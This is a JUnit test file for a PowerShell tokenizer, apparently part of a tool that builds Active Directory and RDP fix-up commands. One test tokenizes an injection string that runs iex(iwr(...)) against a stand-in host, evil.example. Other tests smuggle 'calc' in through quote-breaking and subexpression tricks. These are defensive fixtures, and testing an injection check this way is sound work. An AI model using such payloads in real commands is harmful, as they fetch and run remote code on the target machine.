package io.rdpdoctor.knowledge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.rdpdoctor.knowledge.PowerShellTokens.Kind;
import io.rdpdoctor.knowledge.PowerShellTokens.Token;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The contract test's tokenizer, on the PowerShell it must get right. */
class PowerShellTokensTest {

    private static List<String> kinds(String s) {
        return PowerShellTokens.tokenize(s).stream().map(t -> t.kind() + ":" + t.value()).toList();
    }

    @Test
    void aCommandLineIsWordsStringsAndSeparators() {
        assertThat(kinds("Unlock-ADAccount -Identity 'jdoe'; Get-ADUser jdoe | Format-List"))
                .containsExactly("WORD:Unlock-ADAccount", "WORD:-Identity", "SQ_STRING:jdoe", "SEPARATOR:;", "WORD:Get-ADUser",
                        "WORD:jdoe", "SEPARATOR:|", "WORD:Format-List");
    }

    @Test
    void singleQuotedStringsDoubleTheirQuotesIncludingTypographicOnes() {
        assertThat(PowerShellTokens.tokenize("'it''s' '‘‘a’’b‛‛'")).containsExactly(
                new Token(Kind.SQ_STRING, "it's", false), new Token(Kind.SQ_STRING, "‘a’b‛", false));
        // a typographic quote ends a single-quoted string, as in PowerShell
        assertThat(kinds("'x’;calc;’'")).containsExactly("SQ_STRING:x", "SEPARATOR:;", "WORD:calc", "SEPARATOR:;", "SQ_STRING:");
    }

    @Test
    void theInjectionOfTheAdversarialReviewIsSeenAsSeveralStatements() {
        List<Token> t = PowerShellTokens.tokenize("Unlock-ADAccount -Identity 'x';iex(iwr('http://evil.example/p'));'0xC0000234'");
        assertThat(t).filteredOn(x -> x.kind() == Kind.SEPARATOR).hasSize(2);
        assertThat(t).extracting(Token::value).contains("iex", "iwr");
    }

    @Test
    void doubleQuotedStringsKnowBacktickEscapesAndWhetherTheyExpand() {
        Token literal = PowerShellTokens.tokenize("\"a`$(calc)`\"b\"\"c\"").get(0);
        assertThat(literal).isEqualTo(new Token(Kind.DQ_STRING, "a$(calc)\"b\"c", false));
        assertThat(PowerShellTokens.tokenize("\"a$(calc)b\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"ProcessId=$pid\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"cost: $ 5\"").get(0).expands()).isFalse();
        assertThat(PowerShellTokens.tokenize("“x”").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "x", false));
    }

    @Test
    void commentsStartOnlyAtATokenAndLineBreaksSeparate() {
        assertThat(kinds("Get-Item C:\\a#b # the rest; calc")).containsExactly("WORD:Get-Item", "WORD:C:\\a#b", "COMMENT: the rest; calc");
        assertThat(kinds("a <# x; y #> b\nc")).containsExactly("WORD:a", "COMMENT: x; y ", "WORD:b", "SEPARATOR:\\n", "WORD:c");
    }

    @Test
    void variablesSubexpressionsBlocksAndBacktickedWords() {
        assertThat(kinds("$c = Get-Item Cert:\\LocalMachine\\My\\AB; @{a=[byte[]]$u.x} $(calc) ${env:x} a`;b"))
                .containsExactly("VARIABLE:$c", "WORD:=", "WORD:Get-Item", "WORD:Cert:\\LocalMachine\\My\\AB", "SEPARATOR:;",
                        "OPERATOR:@{", "WORD:a=[byte[]]", "VARIABLE:$u", "WORD:.x", "OPERATOR:}", "OPERATOR:$(", "WORD:calc",
                        "OPERATOR:)", "VARIABLE:${env:x}", "WORD:a;b");
    }

    @Test
    void unterminatedStringsAndHereStringsAreRefused() {
        assertThatThrownBy(() -> PowerShellTokens.tokenize("'abc")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> PowerShellTokens.tokenize("\"abc")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> PowerShellTokens.tokenize("@'\nx\n'@")).hasMessageContaining("here-string");
    }
    @Test
    void backticksContinueLinesAndEscapeTheLastCharacterOfAWord() {
        assertThat(kinds("Get-Item `\n  x `\r\ny")).containsExactly("WORD:Get-Item", "WORD:x", "SEPARATOR:\\n", "WORD:y");
        assertThat(kinds("a`")).containsExactly("WORD:a");
        assertThat(kinds("`")).containsExactly("WORD:");
        assertThat(kinds("a`$b`'c")).containsExactly("WORD:a$b'c");
        // a backtick before anything but a line break escapes it, also at the start of a token
        assertThat(kinds("`$x `'y `r")).containsExactly("WORD:$x", "WORD:'y", "WORD:r");
        assertThat(kinds("„x“ “y„ ”z”")).containsExactly("DQ_STRING:x", "DQ_STRING:y", "DQ_STRING:z");
    }

    @Test
    void commentsRunToTheEndOfTheLineAndBlockCommentsToTheirEnd() {
        assertThat(kinds("a # x\rb")).containsExactly("WORD:a", "COMMENT: x", "SEPARATOR:\\n", "WORD:b");
        assertThat(kinds("a #")).containsExactly("WORD:a", "COMMENT:");
        assertThat(kinds("<##>x")).containsExactly("COMMENT:", "WORD:x");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("a <# x")).hasMessageContaining("unterminated block comment at 2");
        assertThat(kinds("a <")).containsExactly("WORD:a", "OPERATOR:<");
    }

    @Test
    void separatorsPipesAndRedirections() {
        assertThat(kinds("a|b||c&d&&e;f")).containsExactly("WORD:a", "SEPARATOR:|", "WORD:b", "SEPARATOR:||", "WORD:c",
                "SEPARATOR:&", "WORD:d", "SEPARATOR:&&", "WORD:e", "SEPARATOR:;", "WORD:f");
        assertThat(kinds("a |")).containsExactly("WORD:a", "SEPARATOR:|");
        assertThat(kinds("a &")).containsExactly("WORD:a", "SEPARATOR:&");
        assertThat(kinds("a 2>&1 >>log <in")).containsExactly("WORD:a", "WORD:2", "OPERATOR:>&1", "OPERATOR:>>", "WORD:log",
                "OPERATOR:<", "WORD:in");
        assertThat(kinds("a >")).containsExactly("WORD:a", "OPERATOR:>");
    }

    @Test
    void anAtSignGroupsOnlyBeforeAParenthesisOrABrace() {
        assertThat(kinds("@(1) @{a=1}")).containsExactly("OPERATOR:@(", "WORD:1", "OPERATOR:)", "OPERATOR:@{", "WORD:a=1", "OPERATOR:}");
        assertThat(kinds("a@b @")).containsExactly("WORD:a@b", "WORD:@");
        assertThat(kinds("@'x'")).containsExactly("WORD:@", "SQ_STRING:x");
        assertThat(kinds("@\"x\"")).containsExactly("WORD:@", "DQ_STRING:x");
    }

    @Test
    void aHereStringOpensAtTheEndOfItsLine() {
        assertThatThrownBy(() -> PowerShellTokens.tokenize("@' \t\nx\n'@")).hasMessageContaining("here-strings are not supported (at 0)");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("x @\"\r\ny\r\n\"@")).hasMessageContaining("(at 2)");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("@'")).hasMessageContaining("here-string");
        assertThat(kinds("@' x '")).containsExactly("WORD:@", "SQ_STRING: x ");
    }

    @Test
    void doubleQuotedStringsAtTheirEdges() {
        assertThat(PowerShellTokens.tokenize("\"a$\"").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "a$", false));
        assertThat(PowerShellTokens.tokenize("\"$_\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"${x}\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"$?\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"$env:x\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"$-x\"").get(0).expands()).isFalse();
        assertThat(PowerShellTokens.tokenize("\"a$(b(c)d)e\"").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "a$(b(c)d)e", true));
        assertThat(PowerShellTokens.tokenize("\"\"\"\"").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "\"", false));
        assertThat(PowerShellTokens.tokenize("\"\" x").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "", false));
        assertThatThrownBy(() -> PowerShellTokens.tokenize("\"a$(b\"")).hasMessageContaining("unterminated $( in a double-quoted string at 3");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("\"a`\"")).hasMessageContaining("unterminated double-quoted string at 0");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("x 'a''")).hasMessageContaining("unterminated single-quoted string at 2");
        assertThat(PowerShellTokens.tokenize("''").get(0)).isEqualTo(new Token(Kind.SQ_STRING, "", false));
    }

    @Test
    void variablesAtTheirEdges() {
        assertThat(kinds("$")).containsExactly("VARIABLE:$");
        assertThat(kinds("$? $^ $$ $_.x $env:Path $a?b")).containsExactly("VARIABLE:$?", "VARIABLE:$^", "VARIABLE:$$", "VARIABLE:$_",
                "WORD:.x", "VARIABLE:$env:Path", "VARIABLE:$a", "WORD:?b");
        assertThatThrownBy(() -> PowerShellTokens.tokenize("${env:x")).hasMessageContaining("unterminated ${ at 0");
        assertThat(kinds("$(")).containsExactly("OPERATOR:$(");
        assertThat(kinds("${}")).containsExactly("VARIABLE:${}");
    }

    @Test
    void aTokenKnowsWhetherItIsALiteralAndPrintsItsKind() {
        assertThat(new Token(Kind.SQ_STRING, "x", false).isLiteralString()).isTrue();
        assertThat(new Token(Kind.DQ_STRING, "x", false).isLiteralString()).isTrue();
        assertThat(new Token(Kind.DQ_STRING, "$x", true).isLiteralString()).isFalse();
        assertThat(new Token(Kind.WORD, "x", false).isLiteralString()).isFalse();
        assertThat(new Token(Kind.DQ_STRING, "$x", true)).hasToString("DQ_STRING(expands)[$x]");
        assertThat(new Token(Kind.WORD, "x", false)).hasToString("WORD[x]");
    }

    @Test
    void wordsEndAtWhatPowerShellReadsApart() {
        assertThat(kinds("a;b|c&d(e)f{g}h,i<j>k$l'm'n\"o\"p q\tr")).containsExactly("WORD:a", "SEPARATOR:;", "WORD:b", "SEPARATOR:|",
                "WORD:c", "SEPARATOR:&", "WORD:d", "OPERATOR:(", "WORD:e", "OPERATOR:)", "WORD:f", "OPERATOR:{", "WORD:g",
                "OPERATOR:}", "WORD:h", "OPERATOR:,", "WORD:i", "OPERATOR:<", "WORD:j", "OPERATOR:>", "WORD:k", "VARIABLE:$l",
                "SQ_STRING:m", "WORD:n", "DQ_STRING:o", "WORD:p", "WORD:q", "WORD:r");
        assertThat(kinds("a’b“c‛")).containsExactly("WORD:a", "SQ_STRING:b“c");
    }
}
